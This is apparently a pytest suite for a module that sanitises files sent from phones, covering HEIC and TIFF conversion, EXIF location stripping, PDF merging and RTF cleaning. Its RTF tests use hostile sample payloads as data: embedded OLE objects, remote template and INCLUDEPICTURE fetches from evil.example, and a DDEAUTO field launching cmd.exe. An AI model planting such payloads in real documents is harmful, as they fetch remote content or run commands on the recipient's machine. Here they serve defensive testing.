"""What phones send is made ready: HEIC, scans, texts, several photos as one PDF; nothing of place or camera stays."""

import random
import resource
import time
import zlib
from contextlib import suppress
from datetime import date
from functools import cache
from io import BytesIO

import pikepdf
import pytest
from PIL import Image

from espace.interop import media, photos, pictures, rtf
from espace.interop.jpeg import without_hidden_data
from espace.interop.media import MediaError
from tests.documents.house import pdf, picture
from tests.interop.test_media import bomb, locked

MOST = 5 * 1024 * 1024
CANARY = b"CANARY-CAMERA"


def exif() -> Image.Exif:
    """A place, a camera and a day."""
    found = Image.Exif()
    found[0x010F] = CANARY.decode()
    found.get_ifd(0x8825)[2] = (48.0, 51.0, 24.0)
    found.get_ifd(0x8769)[0x9003] = "2026:10:12 09:30:00"
    return found


@cache
def heic(size: tuple[int, int] = (320, 200)) -> bytes:
    """A picture as an iPhone writes it."""
    import pillow_heif

    pillow_heif.register_heif_opener(thumbnails=False)
    out = BytesIO()
    Image.effect_noise(size, 40).convert("RGB").save(out, "HEIF", exif=exif().tobytes(), quality=60)
    return out.getvalue()


def tiff(*sizes: tuple[int, int], mode: str = "RGB", compression: str | None = None) -> bytes:
    """A scan of one page for each size."""
    pages = [Image.new(mode, size, 1 if mode == "1" else None) for size in sizes]
    out = BytesIO()
    options = {"compression": compression} if compression else {}
    pages[0].save(out, "TIFF", save_all=True, append_images=pages[1:], exif=exif(), **options)
    return out.getvalue()


def kind_of(content: bytes) -> str:
    with pytest.raises(MediaError) as caught:
        photos.prepare(content, MOST)
    assert caught.value.kind in media.KINDS
    return caught.value.kind


def test_a_heic_becomes_a_jpeg_without_place_or_camera() -> None:
    assert media.sniff(heic()) == media.HEIC
    assert CANARY in heic()
    made = photos.prepare(heic(), MOST)
    assert (made.media, made.pages, made.taken_on) == (media.JPEG, 1, date(2026, 10, 12))
    assert CANARY not in made.content
    with Image.open(BytesIO(made.content)) as image:
        assert (image.format, image.size, len(image.getexif())) == ("JPEG", (320, 200), 0)


@pytest.mark.parametrize(
    "damage",
    [
        lambda given: given[: len(given) // 2],
        lambda given: given[:60],
        lambda given: given[:400] + bytes(len(given) - 400),
        lambda given: given[:12] + b"\xff" * 40 + given[52:],
        lambda given: given[:12] + b"\x00" * 100,
        lambda given: b"\xff\xff\xff\xff" + given[4:12],
    ],
)
def test_a_broken_heic_is_named(damage: object) -> None:
    assert kind_of(damage(heic())) in ("broken", "truncated", "unknown-type")  # type: ignore[operator]


def test_an_avif_is_no_heic() -> None:
    assert media.sniff(b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00mif1avif") is None
    assert media.sniff(b"\x00\x00\x00\x1cftypmif1\x00\x00\x00\x00mif1heic") == media.HEIC


@pytest.mark.parametrize(
    ("given", "kind", "pages"),
    [
        (tiff((200, 300)), media.JPEG, 1),
        (tiff((200, 300), (300, 200), (90, 90)), media.PDF, 3),
        (tiff((1700, 2200), mode="1", compression="group4"), media.PNG, 1),
        (tiff((1700, 2200), (1700, 2200), mode="1", compression="group4"), media.PDF, 2),
        (tiff((120, 90), mode="L"), media.JPEG, 1),
        (tiff((120, 90), mode="I;16"), media.JPEG, 1),
        (tiff((120, 90), mode="CMYK"), media.JPEG, 1),
        (tiff((120, 90), mode="RGBA"), media.JPEG, 1),
        (tiff((120, 90), mode="P"), media.JPEG, 1),
    ],
)
def test_a_scan_becomes_what_browsers_show(given: bytes, kind: str, pages: int) -> None:
    made = photos.prepare(given, MOST)
    assert (made.media, made.pages) == (kind, pages)
    assert CANARY not in made.content
    assert media.check(made.content) == kind


def test_a_scan_without_end_or_of_absurd_size_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    assert kind_of(tiff((200, 300))[:-200]) in ("broken", "truncated")
    assert kind_of(tiff(*[(8, 8)] * 101)) == "too-many-frames"
    monkeypatch.setattr(pictures, "MAX_POINTS", 10_000)
    with pytest.raises(MediaError, match="too-many-pixels"):
        list(pictures.anew(tiff((100, 100), (100, 100)), media.TIFF, MOST))


def test_a_picture_of_more_than_fifty_million_points_is_refused_lightly() -> None:
    before, started = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.perf_counter()
    out = BytesIO()
    Image.new("1", (10_000, 5_001)).save(out, "TIFF", compression="group4")
    assert kind_of(out.getvalue()) == "too-many-pixels"
    assert kind_of(bomb()) == "too-many-pixels"
    assert time.perf_counter() - started < 5
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 300_000  # KiB


# -- several as one -----------------------------------------------------------------------------------------------


def test_pictures_and_pdfs_become_one_pdf_in_their_order() -> None:
    parts = [
        (media.JPEG, photos.prepare(picture((300, 200), located=True), MOST).content),
        (media.PDF, pdf("un", "deux")),
        (media.PNG, picture((200, 300), "PNG")),
    ]
    whole = photos.as_one_pdf(parts, MOST)
    assert CANARY not in whole
    assert not media.check_pdf(whole).active
    with pikepdf.open(BytesIO(whole)) as opened:
        shapes = [float(page.mediabox[2]) > float(page.mediabox[3]) for page in opened.pages]
    assert shapes == [False, False, False, False]  # the first stands upright, as its camera was held
    assert photos.preview(media.PDF, whole)[0][:4] == b"RIFF"


@pytest.mark.parametrize("count", [2, 12, 30])
def test_however_many_photos_they_fit_in_what_is_kept(count: int) -> None:
    noisy = BytesIO()
    Image.effect_noise((1600, 1200), 60).convert("RGB").save(noisy, "JPEG", quality=95)
    whole = photos.as_one_pdf([(media.JPEG, noisy.getvalue())] * count, MOST)
    assert len(whole) <= MOST
    assert media.check_pdf(whole).pages == count


def test_a_picture_as_thin_as_a_thread_is_a_page_too() -> None:
    made = photos.prepare(tiff((2000, 1), (1, 2000)), MOST)
    assert (made.media, made.pages) == (media.PDF, 2)


def test_what_cannot_fit_is_said() -> None:
    with pytest.raises(MediaError, match="too-heavy"):
        photos.as_one_pdf([(media.PDF, pdf("a")), (media.JPEG, picture())], 2_000)


# -- hidden data, texts -------------------------------------------------------------------------------------------


def _unpacked_photo(content: bytes) -> bytes:
    with pikepdf.open(BytesIO(content)) as document:
        photo = document.pages[0].Resources.XObject.P
        assert isinstance(photo, pikepdf.Stream)
        raw = photo.read_raw_bytes()
    return raw if raw.startswith(b"\xff\xd8") else zlib.decompress(raw)


@pytest.mark.parametrize("packed", [False, True])
def test_a_photo_inside_a_pdf_loses_its_place_and_nothing_else(packed: bool) -> None:
    photo = BytesIO()
    Image.effect_noise((200, 100), 50).convert("RGB").save(photo, "JPEG", exif=exif())
    out = BytesIO()
    with pikepdf.new() as document:
        photos._add_page(  # noqa: SLF001
            document, (200, 100), photo.getvalue(), Filter="/DCTDecode", ColorSpace="/DeviceRGB", BitsPerComponent=8
        )
        if packed:  # as some scanners do
            inside = document.pages[0].Resources.XObject.P
            around = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.DCTDecode])
            inside.write(zlib.compress(photo.getvalue()), filter=around, type_check=False)
        document.save(out)
    assert packed or CANARY in out.getvalue()
    made = photos.prepare(out.getvalue(), MOST)
    assert CANARY not in made.content
    assert b"Exif" not in _unpacked_photo(made.content)
    with Image.open(photo) as before, pikepdf.open(BytesIO(made.content)) as after:
        again = after.pages[0].Resources.XObject.P
        assert isinstance(again, pikepdf.Stream)
        drawn = pikepdf.PdfImage(again).as_pil_image()
        assert drawn.tobytes() == before.convert("RGB").tobytes()


@pytest.mark.parametrize("given", [b"", b"\xff\xd8", b"\xff\xd8\xff", b"\xff\xd8\xff\xe1\xff\xff", b"no jpeg"])
def test_segments_that_are_none_change_nothing_harmful(given: bytes) -> None:
    assert len(without_hidden_data(given)) <= len(given)


@pytest.mark.parametrize(
    ("given", "words"),
    [
        ("Résumé, à garder.\n".encode(), "Résumé, à garder.\n"),
        ("Résumé, à garder.\n".encode("cp1252"), "Résumé, à garder.\n"),
        ("Résumé\n".encode("utf-16"), "Résumé\n"),
        (b"\xef\xbb\xbfmot", "mot"),
    ],
)
def test_a_text_is_read_however_it_was_written(given: bytes, words: str) -> None:
    made = photos.prepare(given, MOST)
    assert (made.media, made.pages, made.content.decode()) == (media.TEXT, 0, words)


@pytest.mark.parametrize(
    "given", [b"\x00\x01\x02", b"<html>\xe9", b"MZ\x90\x00", b"\x93\xfa\x96\x7b" * 40, b"PK\x03\x04"]
)
def test_what_is_no_text_is_none(given: bytes) -> None:
    assert kind_of(given) == "unknown-type"


LETTER = rb"{\rtf1\ansi\ansicpg1252 {\fonttbl{\f0 Arial;}}Cher confr\'e8re,\par le cholest\u233?rol.}"


def test_a_rich_text_is_read_and_kept_as_it_is() -> None:
    assert rtf.rtf_text(LETTER).strip() == "Cher confrère,\nle cholestérol."
    assert photos.prepare(LETTER, MOST).content == LETTER


@pytest.mark.parametrize(
    "harm",
    [
        rb"{\object\objocx{\*\objdata 0105}}",
        rb"{\obj\objdata 01}{\OBJDATA 01}",
        rb"{\*\template http://evil.example/x.dotm}",
        rb"{\field{\*\fldinst INCLUDEPICTURE \"http://evil.example/p\" \\d}}",
        rb"{\field{\*\fldinst DDEAUTO c:\\cmd.exe}}",
    ],
)
def test_what_could_act_in_a_rich_text_is_gone_and_its_words_stay(harm: bytes) -> None:
    given = LETTER[:-1] + harm + b"}"
    kept = photos.prepare(given, MOST).content
    for word in (b"objdata", b"template", b"evil", b"fldinst", b"cmd.exe", b"OBJDATA"):
        assert word not in kept
    assert "cholestérol" in rtf.rtf_text(kept)


def test_a_photo_inside_a_rich_text_loses_its_place() -> None:
    photo = BytesIO()
    Image.new("RGB", (20, 20)).save(photo, "JPEG", exif=exif())
    given = LETTER[:-1] + rb"{\pict\jpegblip\picw20 " + photo.getvalue().hex().encode() + b"}}"
    assert CANARY.hex().encode() in given
    assert CANARY.hex().encode() not in photos.prepare(given, MOST).content


@pytest.mark.parametrize(
    ("given", "kind"),
    [
        (LETTER[:-1], "truncated"),
        (LETTER + b"<script>", "two-in-one"),
        (b"{\\rtf1}", "empty"),
        (b"{\\rtf1" + b"{" * 2000 + b"}" * 2000 + b"}", "broken"),
        (b"", "empty"),
        (locked(), "encrypted"),
        (b"%PDF-1.4 <html>", "truncated"),
    ],
)
def test_what_is_wrong_has_its_word(given: bytes, kind: str) -> None:
    assert kind_of(given) == kind


@pytest.mark.parametrize("name", ["heic", "tiff", "fax", "jpeg", "png", "pdf", "rtf"])
def test_whatever_happens_to_a_file_it_is_kept_or_named(name: str) -> None:
    """Bytes changed, cut out, doubled: no error but ours, and never anything of the camera."""
    given = {
        "heic": heic((64, 48)),
        "tiff": tiff((60, 40), (40, 60)),
        "fax": tiff((160, 120), mode="1", compression="group4"),
        "jpeg": picture((64, 48), located=True),
        "png": picture((64, 48), "PNG"),
        "pdf": pdf("a", "b", script=True),
        "rtf": LETTER,
    }[name]
    chance = random.Random(name)
    taken = 0
    for _ in range(60):
        changed = bytearray(given)
        for _ in range(chance.randint(1, 6)):
            at = chance.randrange(len(changed))
            match chance.randrange(3):
                case 0:
                    changed[at] = chance.randrange(256)
                case 1:
                    del changed[at : at + chance.randint(1, 40)]
                case _:
                    changed[at:at] = changed[at : at + chance.randint(1, 40)]
            if not changed:
                changed = bytearray(b"x")
        made = None
        with suppress(MediaError):
            made = photos.prepare(bytes(changed), MOST)
        if made is not None:
            taken += 1
            assert made.media == media.TEXT or b"CANARY" not in made.content
    assert taken < 60 or name == "rtf"
